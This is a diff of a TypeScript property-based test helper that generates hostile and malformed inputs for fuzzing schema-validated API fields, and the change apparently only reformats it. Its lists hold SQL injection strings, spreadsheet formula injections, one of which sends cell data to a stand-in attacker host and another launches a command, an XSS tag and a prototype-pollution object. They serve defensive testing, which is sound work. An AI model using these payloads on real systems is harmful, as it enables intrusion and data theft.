@@ -14,14 +14,14 @@ const defOf = (schema: unknown): Def => (schema as { _zod: { def: Def } })._zod.
 /** Strings an attacker or a careless import would send, in every text field. */
 export const nastyStrings = [
   "' OR '1'='1",
-  "1; DROP TABLE muser; --",
+  '1; DROP TABLE muser; --',
   "x' UNION SELECT pwdhash FROM muser --",
-  "CASE WHEN 1=1 THEN pg_sleep(0) END",
+  'CASE WHEN 1=1 THEN pg_sleep(0) END',
   '0x27',
   '\\x27; select 1',
   '%27%20OR%201=1',
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  '+SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+SUM(1+1)*cmd|' /C calc'!A0",
   '-2+3',
   '@SUM(A1)',
   '<script>alert(1)</script>',
@@ -58,7 +58,22 @@ const depthNest = (depth: number, leaf: unknown, asArray: boolean) => {
 };
 
 /** Numbers at and past every edge a page size or id could have. */
-export const nastyNumbers = [0, -1, -0, 1, 1.5, -2147483649, 2147483648, 1e9, Number.MAX_SAFE_INTEGER, Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER, 1e308, -1e308, 5e-324];
+export const nastyNumbers = [
+  0,
+  -1,
+  -0,
+  1,
+  1.5,
+  -2147483649,
+  2147483648,
+  1e9,
+  Number.MAX_SAFE_INTEGER,
+  Number.MAX_SAFE_INTEGER + 2,
+  -Number.MAX_SAFE_INTEGER,
+  1e308,
+  -1e308,
+  5e-324,
+];
 
 /** Values of the wrong shape for any field. */
 export const junkArb: fc.Arbitrary<unknown> = fc.oneof(
@@ -66,8 +81,14 @@ export const junkArb: fc.Arbitrary<unknown> = fc.oneof(
   { arbitrary: fc.constantFrom(...nastyNumbers), weight: 3 },
   { arbitrary: fc.constantFrom(null, true, false, [], {}, [null], { '': '' }), weight: 2 },
   { arbitrary: fc.constant(MEGABYTE), weight: 1 },
-  { arbitrary: fc.constantFrom(depthNest(2000, 1, true), depthNest(2000, 'x', false), depthNest(60, [MEGABYTE.slice(0, 1000)], false)), weight: 1 },
-  { arbitrary: fc.constant(JSON.parse('{"__proto__":{"issuper":true,"enabled":1},"constructor":{"prototype":{"admin":true}}}')), weight: 1 },
+  {
+    arbitrary: fc.constantFrom(depthNest(2000, 1, true), depthNest(2000, 'x', false), depthNest(60, [MEGABYTE.slice(0, 1000)], false)),
+    weight: 1,
+  },
+  {
+    arbitrary: fc.constant(JSON.parse('{"__proto__":{"issuper":true,"enabled":1},"constructor":{"prototype":{"admin":true}}}')),
+    weight: 1,
+  },
   { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
   { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 2 },
 );
@@ -216,7 +237,9 @@ function stringArb(def: Def, nasty: boolean): fc.Arbitrary<string> {
   const cap = Number.isFinite(max) ? max : 80;
   // Calendar dates: random digits would almost never name a real day.
   if (patterns.some((p) => p.source.includes('\\d{4}-\\d{2}-\\d{2}'))) {
-    return fc.date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
+    return fc
+      .date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true })
+      .map((d) => d.toISOString().slice(0, 10));
   }
   if (patterns.length > 0) {
     // The first pattern drives generation; bodies that miss the others are dropped by the caller.
@@ -288,7 +311,9 @@ export function hostileOf(schema: unknown): fc.Arbitrary<unknown> {
   const arbs: fc.Arbitrary<unknown>[] = [oneFieldJunk, oneFieldJunk, missing, extra, junkArb, valid];
   if (pageKeys.length > 0) {
     arbs.push(
-      fc.tuple(valid, fc.constantFrom(...pageKeys), fc.constantFrom(0, -1, -100, 1e9, 2 ** 31, 1.5, '10', '', null)).map(([v, k, n]) => ({ ...asObject(v), [k]: n })),
+      fc
+        .tuple(valid, fc.constantFrom(...pageKeys), fc.constantFrom(0, -1, -100, 1e9, 2 ** 31, 1.5, '10', '', null))
+        .map(([v, k, n]) => ({ ...asObject(v), [k]: n })),
     );
   }
   return fc.oneof(...arbs);
